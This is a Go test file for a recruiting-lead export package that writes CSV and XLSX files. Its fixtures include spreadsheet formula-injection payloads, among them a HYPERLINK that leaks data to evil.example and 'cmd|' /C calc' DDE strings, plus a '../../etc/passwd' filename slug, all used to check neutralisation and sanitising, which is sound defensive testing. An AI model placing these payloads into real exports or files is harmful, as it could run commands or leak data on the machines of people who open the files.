package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// berlin is a fixed zone so the golden files do not depend on the system's tzdata.
var berlin = time.FixedZone("CEST", 2*60*60)

func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

func ptr[T any](v T) *T { return &v }

// fixtures returns the leads of the golden files: a Latin name with a comma and quotes in the
// company, a Chinese name with a formula in the message, a Greek/Hebrew name with multi-line
// notes and cells starting with + @ - and TAB, a mononym whose company and notes hold
// semicolon attacks, and three leads the ATS presets leave out (an unresolved badge, a
// LinkedIn scan without an email, a withdrawn contact consent).
func fixtures() []Lead {
	return append(importable(), leftOut()...)
}

// leftOut are the fixtures an ATS preset leaves out, one per reason.
func leftOut() []Lead {
	return []Lead{
		{
			ID: "0b9c1c0e-0005", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Source: "badge_scan", BadgeCode: "TKT-7F3A-99", VisitCount: 1,
			FirstSeen: at("2026-05-13 15:20"), LastSeen: at("2026-05-13 15:20"),
		},
		{
			ID: "0b9c1c0e-0006", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Jonas Berg", LinkedIn: "https://www.linkedin.com/in/jonasberg", Source: "badge_scan",
			BadgeCode: "https://www.linkedin.com/in/jonasberg", VisitCount: 1,
			FirstSeen: at("2026-05-13 15:30"), LastSeen: at("2026-05-13 15:30"),
		},
		{
			ID: "0b9c1c0e-0007", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Wren Withdrawn", Email: "wren@example.org", Source: "self_checkin", VisitCount: 1,
			FirstSeen: at("2026-05-13 16:00"), LastSeen: at("2026-05-13 16:00"),
			Consents: []Consent{{Purpose: "contact", Granted: true, TextVersion: 3, CapturedBy: "candidate",
				At: at("2026-05-13 16:00"), WithdrawnAt: ptr(at("2026-05-14 09:00"))}},
		},
	}
}

// importable are the fixtures every preset holds.
func importable() []Lead {
	return []Lead{
		{
			ID: "0b9c1c0e-0001", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Ana María  Souza", Email: "ana.souza@example.com", Phone: "0176 5550101",
			Company: `Acme, Inc. "Widgets"`, Title: "Senior Backend Engineer",
			LinkedIn: "https://www.linkedin.com/in/ana-souza", GitHub: "https://github.com/anasouza",
			CVURL:     "https://cv.example.com/ana.pdf",
			Message:   "Interested in platform roles, remote or Berlin.",
			Interests: []string{"Backend", "Platform, SRE"}, Tags: []string{"shortlist", "visa, sponsor"},
			Source: "self_checkin", VisitCount: 2,
			FirstSeen: at("2026-05-12 12:03"), LastSeen: at("2026-05-13 09:30"),
			Rating: "hot", FollowUp: "Send the platform job ad",
			Consents: []Consent{
				{Purpose: "contact", Granted: true, TextVersion: 3, TextHash: "ab12", CapturedBy: "candidate", At: at("2026-05-12 12:03")},
				{Purpose: "talent_pool", Granted: true, TextVersion: 2, TextHash: "cd34", CapturedBy: "candidate", At: at("2026-05-12 12:03"),
					WithdrawnAt: ptr(at("2026-05-14 08:00"))},
			},
			Conversations: []Conversation{
				{Staff: "Dana Fischer", At: at("2026-05-12 12:10"), Rating: "warm", Notes: "Strong Go, wants remote."},
				{Staff: "Jonas Weber", At: at("2026-05-13 09:35"), Rating: "hot", Notes: "Met the platform team lead.",
					FollowUp: "Send the platform job ad", Interests: []string{"Platform, SRE"}},
			},
		},
		{
			ID: "0b9c1c0e-0002", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "李小龙", Email: "xiaolong.li@example.cn", Company: "腾讯", Title: "后端工程师",
			Message:   `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
			Interests: []string{"后端", "Go"},
			Source:    "badge_scan", BadgeCode: "BEGIN:VCARD\nVERSION:3.0\nFN:李小龙\nEND:VCARD",
			VisitCount: 1, FirstSeen: at("2026-05-12 14:00"), LastSeen: at("2026-05-12 14:00"),
			Consents: []Consent{
				{Purpose: "contact", Granted: true, TextVersion: 3, CapturedBy: "staff", At: at("2026-05-12 14:01")},
			},
			Conversations: []Conversation{
				{Staff: "Dana Fischer", At: at("2026-05-12 14:02"), Notes: "Asked about visa sponsorship."},
			},
		},
		{
			ID: "0b9c1c0e-0003", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Ελένη כהן", Email: "eleni@example.gr", Phone: "+49 170 1234567",
			Company: "\tTab Corp", Title: "-1", GitHub: "@eleni-dev",
			Message:   "שלום! I build compilers.\r\nSecond line",
			Interests: []string{"Compilers"},
			Source:    "staff_manual", VisitCount: 1,
			FirstSeen: at("2026-05-13 10:00"), LastSeen: at("2026-05-13 10:00"),
			Rating: "cold",
			Consents: []Consent{
				{Purpose: "contact", Granted: true, TextVersion: 3, CapturedBy: "candidate", At: at("2026-05-13 10:00")},
				{Purpose: "talent_pool", Granted: true, TextVersion: 2, CapturedBy: "staff", At: at("2026-05-13 10:01")},
			},
			Conversations: []Conversation{
				{Staff: "נועה לוי", At: at("2026-05-13 10:05"), Rating: "cold",
					Notes: "Line one\nLine two\n\n- bullet: =SUM(A1)\n"},
			},
		},
		{
			ID: "0b9c1c0e-0004", EventName: "GopherCon EU 2026", EventSlug: "gophercon-eu-2026",
			Name: "Madonna", Email: "-dash+tag@example.com", Phone: "+1 (555) 123-4567",
			Company: "Acme;=cmd|' /C calc'!A0", Title: "00123", Message: "1/2 day\n;=3+3\n2026-05-12",
			Interests: []string{"Go"}, Source: "self_checkin", VisitCount: 1,
			FirstSeen: at("2026-05-13 12:00"), LastSeen: at("2026-05-13 12:00"),
			Consents: []Consent{{Purpose: "contact", Granted: true, TextVersion: 3, CapturedBy: "candidate", At: at("2026-05-13 12:00")}},
			Conversations: []Conversation{
				{Staff: "Dana Fischer", At: at("2026-05-13 12:05"), Notes: "- knows Go\n-HYPERLINK(\"http://evil.example/\"&A1)\n+49 30 1234"},
			},
		},
	}
}

func writeAll(t testing.TB, p Preset, o Options, leads []Lead) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := NewWriter(&buf, p, o)
	for _, l := range leads {
		if err := w.Write(l); err != nil {
			t.Fatalf("write: %v", err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if w.Rows() != rowsOf(p, leads) || w.Rows()+w.LeftOut().Total() != len(leads) {
		t.Fatalf("Rows() = %d, left out %+v, want %d rows of %d", w.Rows(), w.LeftOut(), rowsOf(p, leads), len(leads))
	}
	return buf.Bytes()
}

func readAll(t testing.TB, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte(bom))))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%q", err, b)
	}
	return recs
}

// rowsOf is how many rows preset p writes for leads.
func rowsOf(p Preset, leads []Lead) int {
	n := 0
	for i := range leads {
		if Eligible(p, &leads[i]) == Included {
			n++
		}
	}
	return n
}

func TestGolden(t *testing.T) {
	for _, p := range Presets() {
		t.Run(string(p.Preset), func(t *testing.T) {
			got := writeAll(t, p.Preset, Options{Location: berlin}, fixtures())
			path := filepath.Join("testdata", string(p.Preset)+".golden")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./export -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("output differs from %s (run go test ./export -update and review the diff)\ngot:\n%s", path, got)
			}
			withBOM := writeAll(t, p.Preset, Options{Location: berlin, BOM: true}, fixtures())
			if !bytes.Equal(withBOM, append([]byte(bom), want...)) {
				t.Errorf("BOM output is not EF BB BF + %s:\n%q", path, withBOM[:min(len(withBOM), 40)])
			}
			checkCRLF(t, got)
			recs := readAll(t, got)
			if len(recs) != 1+rowsOf(p.Preset, fixtures()) || !slices.Equal(recs[0], Header(p.Preset)) {
				t.Errorf("records = %d, header = %q", len(recs), recs[0])
			}
			checkNoDangerousCells(t, recs[1:])
		})
	}
}

// TestGoldenCells pins the cells whose composition matters to callers, independently
// of the golden bytes.
func TestGoldenCells(t *testing.T) {
	leads := fixtures()
	col := func(p Preset, recs [][]string, row int, name string) string {
		t.Helper()
		i := slices.Index(Header(p), name)
		if i < 0 {
			t.Fatalf("%s has no column %q", p, name)
		}
		if row >= len(recs) {
			t.Fatalf("%s has no row %d", p, row)
		}
		return recs[row][i]
	}
	g := readAll(t, writeAll(t, Generic, Options{Location: berlin}, leads))
	gh := readAll(t, writeAll(t, Greenhouse, Options{Location: berlin}, leads))
	lv := readAll(t, writeAll(t, Lever, Options{Location: berlin}, leads))

	tests := []struct {
		p    Preset
		recs [][]string
		row  int
		col  string
		want string
	}{
		{Generic, g, 1, "First Name", "Ana María"},
		{Generic, g, 1, "Last Name", "Souza"},
		{Generic, g, 1, "Full Name", "Ana María  Souza"},
		{Generic, g, 1, "Company", `Acme, Inc. "Widgets"`},
		{Generic, g, 1, "Interests", "Backend; Platform, SRE"},
		{Generic, g, 1, "Tags", "shortlist; visa, sponsor"},
		{Generic, g, 1, "First Seen", "2026-05-12 14:03"},
		{Generic, g, 1, "Contact Consent", "yes"},
		{Generic, g, 1, "Contact Consent At", "2026-05-12 14:03"},
		{Generic, g, 1, "Contact Consent Text Version", "3"},
		{Generic, g, 1, "Talent Pool Consent", "withdrawn"},
		{Generic, g, 1, "Consent Captured By", "candidate"},
		{Generic, g, 1, "Conversations", "2026-05-12 14:10 Dana Fischer [warm]: Strong Go, wants remote.\n" +
			"2026-05-13 11:35 Jonas Weber [hot]: Met the platform team lead.\n  Follow-up: Send the platform job ad"},
		{Generic, g, 1, "Conversation Count", "2"},
		{Generic, g, 2, "First Name", "李小龙"},
		{Generic, g, 2, "Last Name", ""},
		{Generic, g, 2, "Message", `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`},
		{Generic, g, 2, "Badge Code", "BEGIN:VCARD\nVERSION:3.0\nFN:李小龙\nEND:VCARD"},
		{Generic, g, 2, "Talent Pool Consent", ""},
		{Generic, g, 2, "Consent Captured By", "staff"},
		{Generic, g, 2, "Conversations", "2026-05-12 16:02 Dana Fischer: Asked about visa sponsorship."},
		{Generic, g, 3, "First Name", "Ελένη"},
		{Generic, g, 3, "Last Name", "כהן"},
		{Generic, g, 3, "Phone", "+49 170 1234567"},  // a phone number is written as typed
		{Generic, g, 3, "Company", "\tTab Corp"},     // TAB only separates, and the field is quoted
		{Generic, g, 3, "Title", "-1"},               // a plain number too
		{Generic, g, 3, "GitHub URL", "'@eleni-dev"}, // Excel would look up the name "eleni"
		{Generic, g, 3, "Message", "שלום! I build compilers.\nSecond line"},
		{Generic, g, 3, "Contact Consent", "yes"},
		{Generic, g, 3, "Consent Captured By", "contact: candidate; talent_pool: staff"},
		{Generic, g, 3, "Conversations", "2026-05-13 12:05 נועה לוי [cold]: Line one\n  Line two\n\n  '- bullet: =SUM(A1)"},
		{Generic, g, 4, "Email", "-dash+tag@example.com"},
		{Generic, g, 4, "Phone", "+1 (555) 123-4567"},
		{Generic, g, 4, "Company", "Acme;'=cmd|' /C calc'!A0"},
		{Generic, g, 4, "Title", "00123"},
		{Generic, g, 4, "Message", "1/2 day\n;'=3+3\n2026-05-12"},
		{Generic, g, 4, "Conversations", "2026-05-13 14:05 Dana Fischer: - knows Go\n  '-HYPERLINK(\"http://evil.example/\"&A1)\n  +49 30 1234"},
		{Generic, g, 5, "Full Name", ""},
		{Generic, g, 5, "Badge Code", "TKT-7F3A-99"},
		{Generic, g, 7, "Contact Consent", "withdrawn"},

		{Greenhouse, gh, 1, "Social Media", "https://www.linkedin.com/in/ana-souza, https://github.com/anasouza"},
		{Greenhouse, gh, 1, "Website", "https://cv.example.com/ana.pdf"},
		{Greenhouse, gh, 1, "Source", "GopherCon EU 2026"},
		{Greenhouse, gh, 1, "Notes", "Rating: hot\nFollow-up: Send the platform job ad\nInterests: Backend; Platform, SRE\n" +
			"Tags: shortlist; visa, sponsor\nMessage: Interested in platform roles, remote or Berlin.\nConversations:\n" +
			"2026-05-12 14:10 Dana Fischer [warm]: Strong Go, wants remote.\n" +
			"2026-05-13 11:35 Jonas Weber [hot]: Met the platform team lead.\n  Follow-up: Send the platform job ad"},
		{Greenhouse, gh, 2, "First Name", "李小龙"},
		{Greenhouse, gh, 2, "Last Name", NoLastName},
		{Greenhouse, gh, 2, "Notes", "Interests: 后端; Go\n" +
			`Message: =HYPERLINK("http://evil.example/?leak="&A1,"Click me")` + "\nConversations:\n" +
			"2026-05-12 16:02 Dana Fischer: Asked about visa sponsorship."},
		{Greenhouse, gh, 3, "Phone", "+49 170 1234567"},
		{Greenhouse, gh, 3, "Social Media", "'@eleni-dev"},
		{Greenhouse, gh, 3, "Notes", "Rating: cold\nInterests: Compilers\nMessage: שלום! I build compilers.\n  Second line\n" +
			"Conversations:\n2026-05-13 12:05 נועה לוי [cold]: Line one\n  Line two\n\n  '- bullet: =SUM(A1)"},
		{Greenhouse, gh, 4, "First Name", "Madonna"},
		{Greenhouse, gh, 4, "Last Name", NoLastName},
		{Greenhouse, gh, 4, "Email", "-dash+tag@example.com"},

		{Lever, lv, 1, "Lever Profile ID", ""},
		{Lever, lv, 1, "Full Name", "Ana María  Souza"},
		{Lever, lv, 1, "Date Added", "2026-05-12T12:03:00Z"},
		{Lever, lv, 1, "Links", "https://www.linkedin.com/in/ana-souza, https://github.com/anasouza, https://cv.example.com/ana.pdf"},
		{Lever, lv, 1, "Tags", "Backend,Platform SRE,shortlist,visa sponsor,rating:hot"},
		{Lever, lv, 1, "Sources", "GopherCon EU 2026"},
		{Lever, lv, 1, "Origin", "Sourced"},
		{Lever, lv, 1, "Stage", "New Lead"},
		{Lever, lv, 1, "Company", `Acme, Inc. "Widgets"`},
		{Lever, lv, 1, "DateNote-0", "2026-05-12T12:03:00Z"},
		{Lever, lv, 1, "Note-3", ""},
		{Lever, lv, 2, "Tags", "后端,Go"},
		{Lever, lv, 3, "Phone", "+49 170 1234567"},
		{Lever, lv, 3, "Links", "'@eleni-dev"},
		{Lever, lv, 3, "Tags", "Compilers,rating:cold"},
		{Lever, lv, 4, "Full Name", "Madonna"},
		{Lever, lv, 4, "Email", "-dash+tag@example.com"},
	}
	for _, tt := range tests {
		if got := col(tt.p, tt.recs, tt.row, tt.col); got != tt.want {
			t.Errorf("%s row %d %q = %q, want %q", tt.p, tt.row, tt.col, got, tt.want)
		}
	}
	if len(gh) != 5 || len(lv) != 5 || len(g) != 8 {
		t.Errorf("rows: generic %d, greenhouse %d, lever %d; want 7, 4, 4 (+ header)", len(g)-1, len(gh)-1, len(lv)-1)
	}
}

func TestATSPresetsLeaveOutAndCount(t *testing.T) {
	for _, p := range []Preset{Greenhouse, Lever} {
		for _, f := range []Format{CSV, XLSX} {
			var buf bytes.Buffer
			w := NewRowWriter(&buf, f, p, Options{})
			for _, l := range fixtures() {
				if err := w.Write(l); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			want := LeftOut{NoEmail: 2, NoContactConsent: 1}
			if w.LeftOut() != want || w.Rows() != 4 {
				t.Errorf("%s %s: rows %d, left out %+v; want 4, %+v", p, f, w.Rows(), w.LeftOut(), want)
			}
		}
	}
	g := NewWriter(io.Discard, Generic, Options{})
	for _, l := range fixtures() {
		_ = g.Write(l)
	}
	if g.Rows() != len(fixtures()) || g.LeftOut().Total() != 0 {
		t.Errorf("generic: rows %d, left out %+v", g.Rows(), g.LeftOut())
	}
	for lo, want := range map[LeftOut]string{
		{}:                    "",
		{NoContactConsent: 1}: "1 lead left out: 1 without a contact consent.",
		{NoEmail: 7, NoName: 1, NoContactConsent: 5}: "13 leads left out: 7 without an email address, 1 without a name, 5 without a contact consent.",
	} {
		if got := lo.String(); got != want {
			t.Errorf("%+v.String() = %q, want %q", lo, got, want)
		}
	}
}

func TestHeaderOnlyWhenNoRows(t *testing.T) {
	for _, p := range Presets() {
		for _, withBOM := range []bool{false, true} {
			var buf bytes.Buffer
			w := NewWriter(&buf, p.Preset, Options{BOM: withBOM})
			if buf.Len() != 0 {
				t.Fatalf("NewWriter wrote %q", buf.Bytes())
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil { // a second flush must not repeat the header
				t.Fatal(err)
			}
			want := strings.Join(Header(p.Preset), ",") + "\r\n"
			if withBOM {
				want = bom + want
			}
			if buf.String() != want {
				t.Errorf("%s bom=%v: got %q, want %q", p.Preset, withBOM, buf.String(), want)
			}
			if w.Rows() != 0 {
				t.Errorf("Rows() = %d", w.Rows())
			}
		}
	}
}

func TestUnknownPresetWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, "workday", Options{})
	if err := w.Write(fixtures()[0]); !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("Write err = %v, want ErrUnknownPreset", err)
	}
	if err := w.Flush(); !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("Flush err = %v", err)
	}
	if buf.Len() != 0 || w.Rows() != 0 {
		t.Fatalf("wrote %q, rows %d", buf.Bytes(), w.Rows())
	}
	x := NewXLSXWriter(&buf, "workday", Options{})
	if err := x.Write(fixtures()[0]); !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("xlsx Write err = %v, want ErrUnknownPreset", err)
	}
	if err := x.Close(); !errors.Is(err, ErrUnknownPreset) || buf.Len() != 0 {
		t.Fatalf("xlsx Close err = %v, wrote %d bytes", err, buf.Len())
	}
}

type failWriter struct{ n int }

func (f *failWriter) Write(p []byte) (int, error) {
	if f.n--; f.n < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestWriterErrorsAreStickyAndWrapped(t *testing.T) {
	w := NewWriter(&failWriter{}, Generic, Options{BOM: true})
	if err := w.Write(fixtures()[0]); err != nil {
		t.Fatalf("first write is buffered, got %v", err)
	}
	err := w.Flush()
	if err == nil || !strings.Contains(err.Error(), "disk full") || !strings.HasPrefix(err.Error(), "export: ") {
		t.Fatalf("Flush err = %v", err)
	}
	if err2 := w.Write(fixtures()[1]); !errors.Is(err2, err) {
		t.Fatalf("later Write err = %v, want the flush error", err2)
	}
	x := NewXLSXWriter(&failWriter{}, Generic, Options{})
	if err := x.Write(fixtures()[0]); err != nil {
		t.Fatalf("xlsx rows are buffered, got %v", err)
	}
	if err := x.Close(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("xlsx Close err = %v", err)
	}
}

func TestParsePreset(t *testing.T) {
	for in, want := range map[string]Preset{
		"": Generic, "generic": Generic, " Greenhouse ": Greenhouse, "LEVER": Lever, //nolint:gocritic // the spaces are what ParsePreset must trim
	} {
		got, err := ParsePreset(in)
		if err != nil || got != want {
			t.Errorf("ParsePreset(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	_, err := ParsePreset("workday")
	if !errors.Is(err, ErrUnknownPreset) {
		t.Fatalf("err = %v, want ErrUnknownPreset", err)
	}
	if msg := err.Error(); msg != `export: unknown preset "workday" (valid: generic, greenhouse, lever)` {
		t.Errorf("message = %q", msg)
	}
	for _, c := range []struct {
		in   string
		want Format
	}{{"", CSV}, {"csv", CSV}, {" XLSX", XLSX}} { // case and edge spaces are forgiven
		if got, err := ParseFormat(c.in); err != nil || got != c.want {
			t.Errorf("ParseFormat(%q) = %q, %v", c.in, got, err)
		}
	}
	if _, err := ParseFormat("ods"); !errors.Is(err, ErrUnknownFormat) {
		t.Errorf("ParseFormat(ods) err = %v", err)
	}
}

func TestPresets(t *testing.T) {
	ps := Presets()
	var got []string
	for _, p := range ps {
		got = append(got, string(p.Preset)+"="+p.Label)
		if !p.Preset.Valid() || p.Preset.Label() != p.Label || Header(p.Preset) == nil {
			t.Errorf("%q: Valid/Label/Header inconsistent", p.Preset)
		}
	}
	want := []string{"generic=Generic (all fields)", "greenhouse=Greenhouse prospects", "lever=Lever candidates"}
	if !slices.Equal(got, want) {
		t.Errorf("Presets() = %q", got)
	}
	ps[0].Label = "changed"
	if Presets()[0].Label == "changed" {
		t.Error("Presets() returns shared state")
	}
	h := Header(Lever)
	h[1] = "changed"
	if Header(Lever)[1] != "Full Name" {
		t.Error("Header() returns shared state")
	}
	if Preset("x").Valid() || Header("x") != nil {
		t.Error("unknown preset reported valid")
	}
	if Generic.ForATS() || !Greenhouse.ForATS() || !Lever.ForATS() {
		t.Error("ForATS")
	}
}

func TestFilename(t *testing.T) {
	day := time.Date(2026, 5, 14, 23, 30, 0, 0, berlin)
	tests := []struct {
		slug string
		p    Preset
		f    Format
		bom  bool
		want string
	}{
		{"gophercon-eu-2026", Lever, CSV, false, "boothlead-gophercon-eu-2026-lever-2026-05-14.csv"},
		{"gophercon-eu-2026", Generic, CSV, true, "boothlead-gophercon-eu-2026-generic-excel-2026-05-14.csv"},
		{"gophercon-eu-2026", Generic, XLSX, true, "boothlead-gophercon-eu-2026-generic-2026-05-14.xlsx"},
		{"gophercon-eu-2026", Greenhouse, XLSX, false, "boothlead-gophercon-eu-2026-greenhouse-2026-05-14.xlsx"},
		{"  GopherCon EU/2026!! ", Greenhouse, CSV, false, "boothlead-gophercon-eu-2026-greenhouse-2026-05-14.csv"},
		{"München—Tech", Generic, "", false, "boothlead-m-nchen-tech-generic-2026-05-14.csv"},
		{"", "", "", false, "boothlead-event-generic-2026-05-14.csv"},
		{"李小龙", Generic, CSV, false, "boothlead-event-generic-2026-05-14.csv"},
		{"../../etc/passwd", Generic, CSV, false, "boothlead-etc-passwd-generic-2026-05-14.csv"},
		{strings.Repeat("ab-", 40), Generic, CSV, false, "boothlead-" + strings.TrimSuffix(strings.Repeat("ab-", 20), "-") + "-generic-2026-05-14.csv"},
	}
	for _, tt := range tests {
		if got := Filename(tt.slug, tt.p, tt.f, tt.bom, day); got != tt.want {
			t.Errorf("Filename(%q, %q, %q, %v) = %q, want %q", tt.slug, tt.p, tt.f, tt.bom, got, tt.want)
		}
	}
}

func TestSplitName(t *testing.T) {
	tests := []struct{ in, first, last string }{
		{"Ana Souza", "Ana", "Souza"},
		{"  Ana   María\tSouza  ", "Ana María", "Souza"},
		{"Ludwig van Beethoven", "Ludwig van", "Beethoven"},
		{"Madonna", "Madonna", ""},
		{"李小龙", "李小龙", ""},
		{"山田 太郎", "山田", "太郎"},
		{"Ελένη כהן", "Ελένη", "כהן"},
		{"محمد بن سلمان", "محمد بن", "سلمان"},
		{"Jean\u00a0Dupont", "Jean", "Dupont"},
		{"Hanako\u3000Yamada", "Hanako", "Yamada"},
		{"", "", ""},
		{" \t\n", "", ""},
	}
	for _, tt := range tests {
		first, last := SplitName(tt.in)
		if first != tt.first || last != tt.last {
			t.Errorf("SplitName(%q) = %q, %q; want %q, %q", tt.in, first, last, tt.first, tt.last)
		}
	}
}

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Ana", "Ana"},
		{"=1+2", "'=1+2"},
		{`=1+2";=1+2`, `'=1+2";'=1+2`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1)", "'@SUM(1)"},
		{"-2+3", "'-2+3"},
		{"=", "'="},
		// values that cannot call anything stay as typed
		{"+49 170 1234567", "+49 170 1234567"},
		{"+49 (0)30/1234-56", "+49 (0)30/1234-56"},
		{"+1 (555) 123-4567", "+1 (555) 123-4567"},
		{"-1", "-1"},
		{"-3.5", "-3.5"},
		{"+491701234567", "+491701234567"},
		{"-", "-"},
		{"--", "--"},
		{"+49 170 1234", "+49 170 1234"},
		{"-dash@example.com", "-dash@example.com"},
		{"+tag@example.com", "+tag@example.com"},
		{"-zoë@exämple.de", "-zoë@exämple.de"},
		{"https://example.com/?a=1", "https://example.com/?a=1"},
		{"0176 5550101", "0176 5550101"},
		// not quite
		{"-a+@x.com", "'-a+@x.com"},
		{"-dash@localhost", "'-dash@localhost"},
		{"+49 170 1234 ext 2", "'+49 170 1234 ext 2"},
		{"@handle", "'@handle"},
		{"-A1", "'-A1"},
		{"-x@y.com@z.com", "'-x@y.com@z.com"},
		// what comes before the formula character
		{"\t=1", "\t'=1"},
		{"\tplain", "\tplain"},
		{"\n=1", "\n'=1"},
		{"   =1", "   '=1"},
		{"\u00a0=1", "\u00a0'=1"},
		{"\u200b=1", "\u200b'=1"}, // zero-width space
		{"\u200f@x", "\u200f'@x"}, // right-to-left mark
		{"\ufeff=1", "\ufeff'=1"}, // BOM
		{`"=1"`, `"'=1"`},         // a spreadsheet may take the quote as the field's
		{"'=1", "'=1"},
		{"a=1", "a=1"},
		{"１+1", "１+1"}, // fullwidth digit is an ordinary character
		{"  ", "  "},
		// inside the cell: after a separator or a line break
		{"Acme;=cmd|' /C calc'!A0", "Acme;'=cmd|' /C calc'!A0"},
		{"note\n;=3+3", "note\n;'=3+3"},
		{"a,=1", "a,'=1"},
		{"a\t=1", "a\t'=1"},
		{"a;\t=1", "a;\t'=1"},
		{"a; \"=1", "a; \"'=1"},
		{"line\n- bullet", "line\n- bullet"},
		{"line\n- SUM(A1)", "line\n'- SUM(A1)"},
		{"line\n-HYPERLINK(\"http://x\")", "line\n'-HYPERLINK(\"http://x\")"},
		{"a;-cmd|'/C calc'!A0", "a;'-cmd|'/C calc'!A0"},
		{"a;@SUM(1)", "a;'@SUM(1)"},
		{"a;-1-1", "a;-1-1"},
		{"a;+49 170", "a;+49 170"},
		{"https://x.example/?q=a,-b", "https://x.example/?q=a,-b"},
		{"=1;=2\n=3", "'=1;'=2\n'=3"},
	}
	for _, tt := range tests {
		got := Neutralize(tt.in)
		if got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if again := Neutralize(got); again != got {
			t.Errorf("Neutralize not idempotent on %q: %q", got, again)
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"=1", "'=1"},
		{"a\r\nb\rc\nd", "a\nb\nc\nd"},
		{"\r=1", "\n'=1"},
		{"\x00=1", "'=1"},
		{"\x01=1", "'=1"}, // the control char is removed first, then the rule runs
		{"a\x00b\x1bc\x7fd", "ab" + "c\x7fd"},
		{"tab\tkept", "tab\tkept"},
		{"bad\xffutf8", "bad\ufffdutf8"},
		{"李小龙", "李小龙"},
		{"í\x04", "í"}, // found by FuzzNeutralize: a control after non-ASCII text
		{"+49 170 1234567", "+49 170 1234567"},
		{"x\r;=1", "x\n;'=1"},
	}
	for _, tt := range tests {
		if got := Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	if n := testing.AllocsPerRun(100, func() { _ = Sanitize("already clean, no formula, long enough to need the heap") }); n != 0 {
		t.Errorf("Sanitize of a clean cell allocates %v times", n)
	}
}

// TestQuoting: a field holding any separator a spreadsheet may use, a quote or a line break is
// quoted, so each separator keeps it in one cell.
func TestQuoting(t *testing.T) {
	for in, want := range map[string]string{
		"plain":             "plain",
		"a,b":               `"a,b"`,
		"a;b":               `"a;b"`,
		"a\tb":              "\"a\tb\"",
		`say "hi"`:          `"say ""hi"""`,
		"two\nlines":        "\"two\r\nlines\"",
		" lead":             `" lead"`,
		"trail ":            `"trail "`,
		`\.`:                `"\."`,
		"Acme;=cmd|' /C x'": `"Acme;'=cmd|' /C x'"`,
		"=1":                "'=1",
	} {
		var buf bytes.Buffer
		w := NewWriter(&buf, Generic, Options{})
		w.started = true // no header
		w.row.reset()
		w.row.text(in)
		if err := w.writeRow(); err != nil {
			t.Fatal(err)
		}
		_ = w.bw.Flush()
		if got := strings.TrimSuffix(buf.String(), "\r\n"); got != want {
			t.Errorf("field %q written as %q, want %q", in, got, want)
		}
	}
}
